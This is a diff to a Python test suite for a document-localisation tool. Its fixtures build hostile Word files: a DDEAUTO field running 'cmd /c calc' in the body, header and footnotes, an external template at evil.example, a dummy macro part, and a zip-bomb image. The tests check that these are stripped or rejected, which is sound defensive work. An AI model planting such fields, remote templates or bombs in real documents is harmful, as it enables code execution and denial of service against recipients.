@@ -295,6 +295,14 @@ def _hostile_article(path: Path) -> None:
     settings = document.part._settings_part
     template = settings.relate_to("https://evil.example/template.dotm", "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", is_external=True)
     settings.element.append(_xml(f'<w:attachedTemplate r:id="{template}"/>'))
+    dde = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO cmd "/c calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    document.sections[0].header.paragraphs[0]._p.extend(list(_xml(f"<w:p>{dde}</w:p>")))  # a header: python-docx's own part
+    footnotes = (  # a part python-docx keeps as bytes
+        '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:footnote w:id="1"><w:p>'
+        f"{dde}<w:r><w:t>A note.</w:t></w:r></w:p></w:footnote></w:footnotes>"
+    ).encode()
+    notes = Part(PackURI("/word/footnotes.xml"), "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml", footnotes, document.part.package)
+    document.part.relate_to(notes, RT.FOOTNOTES)
     macros = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"Attribute VB_Name\0" * 64, document.part.package)
     document.part.relate_to(macros, VBA)
     document.save(str(path))
@@ -306,7 +314,8 @@ def test_editions_carry_no_macros_remote_parts_or_dangerous_fields(tmp_path: Pat
     root = new_workspace(tmp_path)
     _hostile_article(root / "source_texts" / "story.docx")
     with zipfile.ZipFile(root / "source_texts" / "story.docx") as source:  # the hostile parts are there
-        assert "word/vbaProject.bin" in source.namelist() and b"DDEAUTO" in source.read("word/document.xml")
+        assert "word/vbaProject.bin" in source.namelist()
+        assert all(b"DDEAUTO" in source.read(f"word/{name}.xml") for name in ("document", "header1", "footnotes"))
     run_l10n("extract", cwd=root)
     ids = msgids(root, "story")
     assert ids == ["Prices rose in March.", "Exports grew fast.", "Included text.", "Picture.", "<img1/>Linked sheet."]
@@ -321,6 +330,7 @@ def test_editions_carry_no_macros_remote_parts_or_dangerous_fields(tmp_path: Pat
         assert b'TargetMode="External"' not in rels or b"/hyperlink" in rels, rels
     assert b"attachedTemplate" not in xml and b"OLEObject" not in xml and b"evil.example" not in xml
     assert b"<v:shape" in xml  # the OLE object's picture stays, without the object
+    assert b"A note." in xml
     for word in (b"DDEAUTO", b"calc", b"INCLUDETEXT", b"INCLUDEPICTURE", b"instrText", b"fldChar", b"fldSimple"):
         assert word not in xml, word
     built = docx.Document(str(edition))  # still a document Word and python-docx open
@@ -333,17 +343,21 @@ def test_editions_carry_no_macros_remote_parts_or_dangerous_fields(tmp_path: Pat
 
 
 def _bomb(path: Path, inflated: int) -> None:
-    """A real Word document plus a picture part of ``inflated`` zero bytes (a few hundred KB
-    packed), written in pieces so the test itself never holds it."""
+    """A real Word document with a picture whose part is ``inflated`` zero bytes (a few hundred
+    KB packed), written in pieces so the test itself never holds it."""
     buffer = io.BytesIO()
-    _word().save(buffer)
+    document = _word()
+    document.add_paragraph("Prices rose.").add_run().add_picture(io.BytesIO(_png()))
+    document.save(buffer)
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target, zipfile.ZipFile(buffer) as source:
         for info in source.infolist():
-            target.writestr(info, source.read(info))
-        with target.open("word/media/image1.png", "w", force_zip64=True) as member:
-            block = b"\0" * 2**20
-            for _ in range(inflated // len(block)):
-                member.write(block)
+            if not info.filename.startswith("word/media/"):
+                target.writestr(info, source.read(info))
+            else:
+                with target.open(info.filename, "w", force_zip64=True) as member:
+                    block = b"\0" * 2**20
+                    for _ in range(inflated // len(block)):
+                        member.write(block)
 
 
 @pytest.mark.parametrize("inflated", [300 * 2**20, 100 * 2**20], ids=["too-big", "too-compressed"])
